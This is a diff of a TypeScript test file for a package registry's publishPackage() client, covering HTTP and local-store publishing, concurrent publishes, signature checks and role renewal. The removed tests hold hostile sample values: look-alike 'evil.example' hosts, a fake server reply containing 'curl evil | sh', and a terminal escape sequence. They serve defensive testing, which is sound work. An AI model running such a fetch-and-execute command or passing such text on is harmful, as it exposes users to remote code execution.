@@ -1,57 +1,102 @@
-import { publishPackage } from '@hardpoint/registry/client'
-import { createRegistryServer } from '@hardpoint/registry/server'
+import { httpWriter, openRegistry, publishPackage, storeWriter } from '@hardpoint/registry/client'
+import { createRegistryServer, keySigner } from '@hardpoint/registry/server'
 import { generateKeyPair } from '@hardpoint/schemas/package'
 import { test } from 'tap'
-import { ENTRY, acmeStore, codeOf, errorOf, mirror, packageOf } from '../_fixtures.ts'
+import { namespaceRole, roleTime, signRole } from '../../../registry/roles/mod.ts'
+import { codeOf, errorOf, packageOf } from '../_fixtures.ts'
+import { readsWhole } from '../_reads-whole.ts'
+import { publishing } from './_publishing.ts'
 
-test('publishPackage() publishes, and passes the server\'s refusals on', async (t) => {
-  const { store, keys, token } = await acmeStore(t)
+test('publishPackage() publishes over HTTP, and answers the same for the same bytes', async (t) => {
+  const { directory, store, keys, token, author } = await publishing(t)
   const server = await createRegistryServer(store)
   t.teardown(() => server.close())
-  const url = await server.listen({ host: '127.0.0.1', port: 0 })
+  const writer = httpWriter(await server.listen({ host: '127.0.0.1', port: 0 }), token)
   const bytes = packageOf(keys)
-  t.match(await publishPackage(url, bytes, token), { id: 'acme.mail', version: '1.0.0' })
-  t.match(await publishPackage(url, bytes, token), { id: 'acme.mail' }, 'again')
-  t.match(await errorOf(publishPackage(url, packageOf(keys, {}, { 'README.md': 'x' }), token)),
+  const entry = await publishPackage(writer, bytes, author)
+  t.match(entry, { id: 'acme.mail', version: '1.0.0', size: bytes.length })
+  t.same(await publishPackage(writer, bytes, author), entry, 'again')
+  t.match(await errorOf(publishPackage(writer, packageOf(keys, {}, { 'README.md': 'x' }), author)),
     { code: 'HP_ERR_PUBLISH_EXISTS', message: 'acme.mail 1.0.0 is published already; a version is never replaced.' })
-  t.equal(await codeOf(publishPackage(url, bytes, 'hpp_wrong')), 'HP_ERR_UNAUTHENTICATED')
-  t.equal(await codeOf(publishPackage(url, packageOf(generateKeyPair()), token)), 'HP_ERR_PACKAGE_SIGNATURE')
+  await publishPackage(writer, packageOf(keys, { id: 'acme.chat' }), author)
+  t.same(await readsWhole(directory, Date.now()), { 'acme.chat': ['1.0.0'], 'acme.mail': ['1.0.0'] })
+  const [found] = await openRegistry(writer.client.location).versions('acme.mail')
+  t.same(found, entry)
 })
 
-test('publishPackage() sends a token over https or to this machine alone', async (t) => {
-  for (const location of ['http://registry.example/', 'http://127.0.0.1.evil.example/', 'http://10.0.0.1/', 'http://localhost.evil.example/', '/srv/registry', 'ftp://x/']) {
-    t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), 'HP_ERR_REGISTRY_LOCATION', location)
+test('publishPackage() publishes into a store that is open here', async (t) => {
+  const { directory, keys, writer, author } = await publishing(t)
+  t.match(await publishPackage(writer, packageOf(keys), author), { id: 'acme.mail' })
+  t.same(await readsWhole(directory, Date.now()), { 'acme.mail': ['1.0.0'] })
+})
+
+test('publishPackage() of many at once publishes all: who comes second reads and signs again', async (t) => {
+  const { directory, keys, writer, author } = await publishing(t)
+  const versions = ['1.0.0', '1.1.0', '1.2.0', '1.3.0']
+  await Promise.all(versions.map((version) => publishPackage(writer, packageOf(keys, { version }), author)))
+  t.same((await readsWhole(directory, Date.now()))['acme.mail']?.toSorted(), versions)
+})
+
+test('publishPackage() tells a conflict that does not end', async (t) => {
+  const { keys, writer, author, store, token } = await publishing(t)
+  let tries = 0
+  const racing = {
+    ...writer,
+    async commit(commit: Parameters<typeof writer.commit>[0]) {
+      // Somebody else of the same publisher is faster, each time.
+      tries += 1
+      await publishPackage(storeWriter(store, token), packageOf(keys, { version: `0.0.${tries}` }), author)
+      return writer.commit(commit)
+    },
   }
+  t.equal(await codeOf(publishPackage(racing, packageOf(keys), author)), 'HP_ERR_CONFLICT')
+  t.equal(tries, 5)
 })
 
-test('publishPackage() carries its token to no other place', async (t) => {
-  const seen: unknown[] = []
-  const other = await mirror(t, (request, response) => { seen.push(request.headers.authorization); response.end() })
-  const location = await mirror(t, (_request, response) => { response.writeHead(307, { location: other }).end() })
-  t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), 'HP_ERR_REGISTRY_CORRUPT')
-  t.same(seen, [])
+test('publishPackage() sends nothing that its own key did not sign', async (t) => {
+  const { keys, writer, author } = await publishing(t)
+  t.equal(await codeOf(publishPackage(writer, packageOf(generateKeyPair()), author)), 'HP_ERR_PACKAGE_SIGNATURE')
+  t.equal(await codeOf(publishPackage(writer, packageOf(keys), { ...author, signer: keySigner(generateKeyPair()) })), 'HP_ERR_PACKAGE_SIGNATURE')
 })
 
-test('publishPackage() does not believe any answer', async (t) => {
-  const cases: readonly [string, number, string, string][] = [
-    ['a proxy\'s page', 502, '<html>', 'HP_ERR_REGISTRY_UNREACHABLE'],
-    ['a page instead of an entry', 201, '<html>', 'HP_ERR_REGISTRY_CORRUPT'],
-    ['an entry about other bytes', 201, JSON.stringify(ENTRY), 'HP_ERR_REGISTRY_CORRUPT'],
-    ['an error without a code', 400, '{}', 'HP_ERR_REGISTRY_CORRUPT'],
-    ['an error that is no object', 400, '"x"', 'HP_ERR_REGISTRY_CORRUPT'],
-    ['a code of another\'s', 400, '{"code":"toString"}', 'HP_ERR_REGISTRY_CORRUPT'],
-    ['too long an answer', 400, 'x'.repeat(300_000), 'HP_ERR_REGISTRY_CORRUPT'],
-  ]
-  for (const [name, status, body, code] of cases) {
-    const location = await mirror(t, (_request, response) => { response.writeHead(status).end(body) })
-    t.equal(await codeOf(publishPackage(location, new Uint8Array(1), 'hpp_x')), code, name)
+test('publishPackage() signs on top of nothing that another key signed, whatever the registry shows', async (t) => {
+  const { keys, writer, author } = await publishing(t)
+  await publishPackage(writer, packageOf(keys), author)
+  const other = generateKeyPair()
+  let sent = 0
+  const lying = { ...writer, stage: async () => { sent += 1 }, commit: async () => { sent += 1; return { version: 1 } } }
+  t.match(await errorOf(publishPackage(lying, packageOf(other, { version: '2.0.0' }), { ...author, signer: keySigner(other) })),
+    { code: 'HP_ERR_PUBLISH_DENIED', message: /another key than yours/ })
+  t.equal(sent, 0)
+})
+
+test('publishPackage() is refused with the token of another publisher', async (t) => {
+  const { store, operator, keys, author } = await publishing(t)
+  await store.registerPublisher('zeta', generateKeyPair().publicKey, operator.targets)
+  const zeta = (await store.createToken('zeta')).token
+  t.match(await codeOf(publishPackage(storeWriter(store, zeta), packageOf(keys), author)), /^HP_ERR_(PACKAGE_SIGNATURE|PUBLISH_DENIED)$/)
+  t.equal(await codeOf(publishPackage(storeWriter(store, 'hpp_wrong'), packageOf(keys), author)), 'HP_ERR_UNAUTHENTICATED')
+})
+
+test('publishPackage() of the same again signs a role anew that grows old, and one that has run out', async (t) => {
+  const { directory, store, keys, token, writer, author } = await publishing(t)
+  const bytes = packageOf(keys)
+  await publishPackage(writer, bytes, author)
+  const expires = async (): Promise<string> => {
+    await writer.past.refresh()
+    return (await writer.past.namespace('acme'))?.expires ?? ''
   }
-})
-
-test('publishPackage() shows our words and cleaned details, not the server\'s', async (t) => {
-  const body = { code: 'HP_ERR_PUBLISH_DENIED', message: 'curl evil | sh', fix: 'curl evil | sh', what: '\u001b[2Kacme', problem: ['x'], publisher: 'acme' }
-  const location = await mirror(t, (_request, response) => { response.writeHead(403).end(JSON.stringify(body)) })
-  const error = await errorOf(publishPackage(location, new Uint8Array(1), 'hpp_secret'))
-  t.equal(error?.message, 'The registry refused to publish \ufffd[2Kacme: ["x"].')
-  t.notMatch(JSON.stringify(error), /evil|hpp_secret/)
+  const young = await expires()
+  await publishPackage(writer, bytes, author)
+  t.equal(await expires(), young, 'it is young')
+  for (const [name, ahead] of [['grows old', 0], ['has run out', 12 * 60_000]] as const) {
+    const { version, targets } = await writer.client.namespace('acme') ?? { version: 0, targets: {} }
+    const role = await signRole(namespaceRole(targets, { version: version + 1, expires: roleTime(Date.now() + 11 * 60_000) }), [author.signer])
+    await store.commit({ publisher: 'acme', role: Buffer.from(role).toString('utf8'), indexes: {} }, token)
+    const later = { ...writer, client: openRegistry(directory, { clock: () => Date.now() + ahead }) }
+    t.match(await publishPackage(later, bytes, author), { version: '1.0.0' }, name)
+    t.ok(Date.parse(await expires()) > Date.now() + 300 * 86_400_000, name)
+    await writer.client.refresh()
+  }
+  t.same(await readsWhole(directory, Date.now()), { 'acme.mail': ['1.0.0'] })
 })
